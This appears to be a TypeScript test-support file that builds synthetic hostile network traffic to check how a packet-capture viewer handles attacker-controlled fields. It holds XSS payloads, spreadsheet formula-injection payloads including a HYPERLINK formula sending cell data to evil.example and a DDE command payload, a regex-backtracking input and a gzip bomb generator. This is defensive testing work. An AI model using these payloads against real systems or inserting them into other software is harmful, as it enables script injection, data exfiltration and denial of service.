// The attacker's traffic for test/attack: sessions whose values are HTML/script and spreadsheet
// formula payloads, a gzip bomb, and a viewer started on them with `bin/packrat`. Everything
// an attacker controls on the wire (Host, User-Agent, URI, DNS names, bodies) ends up in a
// session document and in front of an analyst; these tests check what that can do.
import { spawn, type ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import zlib from 'node:zlib';
import { dnsAnswerA, dnsQuery, endpoint, pcapBytes, tcpConversation, tcpDialog, udpDialog, type Frame } from '../../capture/synth/traffic.js';
import { packrat, runPackrat } from '../support/json-capture.js';

/** Each payload sets window.__xss if it ever runs as script. */
export const XSS = {
  img: '<img src=x onerror=window.__xss=1>',
  script: '"><script>window.__xss=1</script>',
  svg: '<svg/onload=window.__xss=1>',
  attr: "' onmouseover='window.__xss=1' x='",
};
/** Cells a spreadsheet would run as formulas (OWASP's leading characters). */
export const FORMULAS = { eq: '=HYPERLINK("http://evil.example/?"&A1,"x")', plus: '+1+cmd|\'/c calc\'!A0', minus: '-2+3', at: '@SUM(1+1)' };

const T0 = 1_763_700_000_000_000;
const enc = (s: string) => new Uint8Array(Buffer.from(s, 'latin1'));
const ok = enc('HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nok');

function http(i: number, host: string, ua: string, uri: string): Frame[] {
  const req = enc(`GET ${uri} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${ua}\r\nAccept: */*\r\n\r\n`);
  return tcpConversation(endpoint(`10.66.0.${i + 1}`, 40000 + i), endpoint('10.99.0.1', 80, 'server'), T0 + i * 1_000_000, req, ok);
}

function dns(i: number, name: string): Frame[] {
  return udpDialog(endpoint(`10.66.1.${i + 1}`, 50000 + i), endpoint('10.99.0.53', 53, 'server'), T0 + 20_000_000 + i * 1_000_000,
    [{ from: 'client', data: dnsQuery(100 + i, name) }, { from: 'server', data: dnsAnswerA(100 + i, name, [10, 99, 0, 7]) }]);
}

/** HTTP sessions with XSS payloads in Host, User-Agent and URI, one with formula payloads, DNS names with XSS payloads. */
export function hostileFrames(): Frame[] {
  const frames = [
    ...http(0, XSS.img, XSS.script, `/${XSS.svg}?q=${XSS.script.replace(/ /g, '')}`),
    ...http(1, XSS.svg, XSS.img, `/p?x=${XSS.attr.replace(/ /g, '%20')}`),
    ...http(2, `${FORMULAS.plus.replace(/ /g, '')}`, FORMULAS.eq, '/-2+3'),
    ...http(3, FORMULAS.at, FORMULAS.minus, '/ok'),
    ...http(4, 'long.example', 'x', `/${'a'.repeat(3000)}b`), // what /(a|aa)+b/ backtracks on
    ...dns(0, XSS.img), ...dns(1, XSS.script), ...dns(2, FORMULAS.eq.replace(/"/g, '')),
  ];
  return frames.sort((a, b) => a.tsUs - b.tsUs);
}

export const BOMB_BYTES = 1 << 30;

/**
 * A gzip body that inflates to BOMB_BYTES of zeros: one gzip member of 1 MiB of zeros repeated
 * (a gzip stream may hold many members, and inflaters decode them all), about 1 MB on the wire.
 */
export function gzipBomb(): Buffer {
  const member = zlib.gzipSync(Buffer.alloc(1 << 20), { level: 9 });
  return Buffer.concat(new Array(BOMB_BYTES >> 20).fill(member));
}

/** One HTTP session whose response carries the bomb, with its md5 over the bytes as sent. */
export function bombFrames(): { frames: Frame[]; bodyMd5: string; bodyLen: number } {
  const body = gzipBomb();
  const head = enc(`HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\n\r\n`);
  const req = enc('GET /bomb.txt HTTP/1.1\r\nHost: bomb.example\r\nAccept-Encoding: gzip\r\n\r\n');
  const frames = tcpDialog(endpoint('10.77.0.1', 41000), endpoint('10.77.0.2', 80, 'server'), T0 + 60_000_000,
    [{ from: 'client', data: req }, { from: 'server', data: Buffer.concat([head, body]) }]);
  return { frames, bodyMd5: createHash('md5').update(body).digest('hex'), bodyLen: body.length };
}

export interface Lab { dir: string; cfg: string; user: string; password: string; auth: string }

/** A fresh data folder and config; `extra` lines go into [default]. */
export function lab(extra = ''): Lab {
  const dir = mkdtempSync(join(tmpdir(), 'packrat-attack-'));
  const cfg = join(dir, 'config.ini');
  writeFileSync(cfg, `[default]\ndataDir=${join(dir, 'data')}\npcapDir=${join(dir, 'pcap')}\n${extra}`);
  const user = 'mallory-analyst', password = 'analyst-pw-123';
  return { dir, cfg, user, password, auth: `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}` };
}

/** Writes `frames` as a pcap in the lab and imports it with `packrat capture`. */
export async function importFrames(l: Lab, name: string, frames: Frame[]): Promise<string> {
  const file = join(l.dir, `${name}.pcap`);
  writeFileSync(file, pcapBytes(frames));
  const r = await runPackrat(['capture', '-c', l.cfg, '-n', 'attack', '--flush', '-r', file]);
  if (r.code !== 0) throw new Error(`packrat capture failed (${r.code}): ${r.err}`);
  return file;
}

export async function addUser(l: Lab): Promise<void> {
  const r = await runPackrat(['user', 'add', l.user, '-c', l.cfg, '--admin', '--password', l.password]);
  if (r.code !== 0) throw new Error(`packrat user add failed: ${r.err}`);
}

export interface ViewerProc { base: string; proc: ChildProcess; stop(): Promise<void> }

/** `packrat viewer --port 0` on the lab's config; resolves with its URL. */
export function startViewer(l: Lab, node = 'attack'): Promise<ViewerProc> {
  return new Promise((ok, fail) => {
    const p = spawn(process.execPath, [packrat, 'viewer', '-c', l.cfg, '-n', node, '--port', '0'], { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '', err = '';
    const timer = setTimeout(() => fail(new Error(`viewer did not start in 30 s: ${out}${err}`)), 30_000);
    const stop = async () => {
      if (p.exitCode !== null || p.signalCode !== null) return;
      const exited = new Promise((r) => p.once('exit', r));
      p.kill('SIGTERM');
      await exited;
    };
    p.stdout!.on('data', (c) => {
      out += c;
      const m = /listening on (http:\/\/\S+)/.exec(out);
      if (m) { clearTimeout(timer); ok({ base: m[1], proc: p, stop }); }
    });
    p.stderr!.on('data', (c) => { err += c; });
    p.on('exit', (code) => { clearTimeout(timer); fail(new Error(`viewer exited with ${code}: ${err}`)); });
  });
}
